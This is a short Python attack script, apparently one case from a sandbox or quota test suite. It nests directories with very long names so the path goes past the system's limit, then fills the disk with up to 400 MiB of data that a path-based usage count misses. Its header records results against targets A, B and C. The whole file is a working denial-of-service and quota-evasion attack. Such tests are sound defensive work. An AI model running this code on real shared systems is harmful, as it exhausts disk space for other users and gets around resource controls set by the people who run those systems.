# attack: Writes files so far below its folder that their paths are longer than the system allows to name.
# hurts: Leaves no room on the disk for anybody else, unseen by one who counts by path.
# at most at A: 72 MiB
# ends: returns or error or crash
# ends at B, C: crash
import os
import time

from _raw import MIB, took

MOST = 400
STEP = 4
LEVELS = 40


def attack(target):
    piece, total, why = bytes(range(256)) * (STEP * MIB // 256), 0, ""
    for number in range(LEVELS):
        name = f"{target['note']}-{number:0200d}"
        os.mkdir(name)
        os.chdir(name)
    try:
        for number in range(MOST // 40):
            with open(f"full-{number}", "wb", buffering=0) as file:
                for _ in range(40 // STEP):
                    if file.write(piece) < len(piece):
                        break
                    total += STEP
                    took(total * MIB)
    except OSError as error:
        why = str(error)
    if total * MIB > target["disk_bytes"]:
        time.sleep(2)
    return [took(total * MIB), why]
